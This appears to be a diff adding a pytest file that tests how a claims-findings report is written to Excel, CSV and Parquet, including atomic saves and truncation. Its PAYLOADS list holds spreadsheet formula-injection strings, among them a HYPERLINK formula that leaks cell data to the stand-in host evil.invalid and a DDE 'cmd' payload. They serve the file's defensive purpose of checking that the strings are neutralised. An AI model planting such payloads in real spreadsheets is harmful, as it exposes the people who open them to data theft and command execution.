@@ -1,0 +1,130 @@
+"""The workbook and findings file, opened back (never byte-compared): RELIABILITY.md T1-T4, T18."""
+
+from __future__ import annotations
+
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import polars as pl
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from flows import report
+from flows.report import atomic_path, write_findings_file, write_workbook
+from validators import findings as fnd
+
+PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.invalid/?"&A2,"click")', "+1+1", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A", "#REF!", "=", "'=1+1"]
+
+
+def findings_with(messages: list[str]) -> pl.DataFrame:
+    n = len(messages)
+    return pl.DataFrame({
+        "claim_id": [f"C{i}" for i in range(n)], "line_number": [1] * n, "rule_id": ["FLD001"] * n,
+        "category": ["field-integrity"] * n, "severity": ["high"] * n, "carc": ["CO-16"] * n, "rarc": [None] * n,
+        "message": messages, "fix": ["fix it"] * n, "charge_at_risk": [10.0] * n, "source_file": ["x.csv"] * n,
+        "source_row": list(range(2, n + 2)),
+    }, schema=fnd.FINDINGS_SCHEMA)
+
+
+RUN = {"facts": [("As-of date", "2026-09-30")], "warnings": [], "findings_file": "findings.csv"}
+
+
+def sheet_xml(path: Path) -> str:
+    with zipfile.ZipFile(path) as z:
+        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_known_payloads_are_text_not_formulas(tmp_path):
+    path = tmp_path / "r.xlsx"
+    write_workbook(path, RUN, {}, findings_with(PAYLOADS))
+    xml = sheet_xml(path)
+    assert "<f>" not in xml and 't="e"' not in xml
+    ws = openpyxl.load_workbook(path)["Findings"]
+    cells = [ws.cell(row=i + 2, column=8) for i in range(len(PAYLOADS))]
+    assert [c.value for c in cells] == PAYLOADS
+    assert all(c.data_type == "s" for c in cells)
+    assert all(c.quotePrefix for c, p in zip(cells, PAYLOADS) if p.startswith(report.FORMULA_TRIGGERS) or p.startswith("#"))
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.text(max_size=40))
+@example("\x0b=SUM(A1)")
+@example("A\x1aB")
+def test_any_string_is_stored_as_text(tmp_path, text):
+    path = tmp_path / "r.xlsx"
+    write_workbook(path, RUN, {}, findings_with([text or "x"]))
+    assert "<f>" not in sheet_xml(path)
+    value = openpyxl.load_workbook(path)["Findings"].cell(row=2, column=8).value
+    assert value == report.ILLEGAL_CHARACTERS_RE.sub("\ufffd", text or "x")
+
+
+def test_workbook_sheets_headers_and_counts(tmp_path):
+    path = tmp_path / "r.xlsx"
+    tables = {"Rules": pl.DataFrame({"Rule": ["FLD001"], "Dollars at risk": [10.0]})}
+    write_workbook(path, RUN, tables, findings_with(["a", "b", "c"]))
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["Summary", "Findings"]
+    ws = wb["Findings"]
+    assert [c.value for c in ws[1]] == list(fnd.FINDINGS_COLUMNS)
+    assert ws.max_row == 4 and ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:L4"
+    assert ws.cell(row=2, column=10).number_format == report.MONEY
+    summary = [[c.value for c in row] for row in wb["Summary"].iter_rows()]
+    assert ["As-of date", "2026-09-30"] in summary and ["FLD001", 10] in summary
+
+
+def test_findings_sheet_is_bounded_and_the_summary_says_where_the_rest_is(tmp_path, monkeypatch):
+    monkeypatch.setattr(report, "FINDINGS_SHEET_LIMIT", 2)
+    path = tmp_path / "r.xlsx"
+    out = write_workbook(path, RUN, {}, findings_with(["a", "b", "c", "d"]))
+    wb = openpyxl.load_workbook(path)
+    assert out["rows_not_shown"] == 2 and wb["Findings"].max_row == 3
+    texts = [c.value for row in wb["Summary"].iter_rows() for c in row if isinstance(c.value, str)]
+    assert any("shows the 2 most urgent of 4 findings" in t and "findings.csv" in t for t in texts)
+
+
+def test_over_long_text_is_cut_and_counted(tmp_path):
+    out = write_workbook(tmp_path / "r.xlsx", RUN, {}, findings_with(["x" * 40_000]))
+    value = openpyxl.load_workbook(tmp_path / "r.xlsx")["Findings"].cell(row=2, column=8).value
+    assert out["texts_truncated"] == 1 and len(value) == report.EXCEL_MAX_TEXT
+
+
+@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # openpyxl's abandoned writer
+def test_failure_mid_save_keeps_the_previous_report_and_leaves_no_debris(tmp_path, monkeypatch):
+    path = tmp_path / "r.xlsx"
+    write_workbook(path, RUN, {}, findings_with(["OLD"]))
+
+    def broken_save(self, filename):
+        Path(filename).write_bytes(b"PK\x03\x04 half a zip")
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
+    with pytest.raises(OSError):
+        write_workbook(path, RUN, {}, findings_with(["NEW"]))
+    assert openpyxl.load_workbook(path)["Findings"].cell(row=2, column=8).value == "OLD"
+    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
+
+
+def test_atomic_path_replaces_only_on_success(tmp_path):
+    target = tmp_path / "f.txt"
+    target.write_text("old")
+    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
+        tmp.write_text("new")
+        raise RuntimeError("crash")
+    assert target.read_text() == "old" and len(list(tmp_path.iterdir())) == 1
+
+
+def test_csv_neutraliser_never_leaves_a_trigger_first(tmp_path):
+    path = write_findings_file(findings_with(PAYLOADS), tmp_path / "f.csv")
+    back = pl.read_csv(path, infer_schema=False)
+    for original, written in zip(PAYLOADS, back["message"]):
+        assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert written in (original, "'" + original)
+    assert back["charge_at_risk"].to_list() == ["10.0"] * len(PAYLOADS)  # numbers are not prefixed
+
+
+def test_parquet_findings_file_keeps_types(tmp_path):
+    path = write_findings_file(findings_with(["a"]), tmp_path / "f.parquet")
+    assert pl.read_parquet(path).schema == pl.Schema(fnd.FINDINGS_SCHEMA)
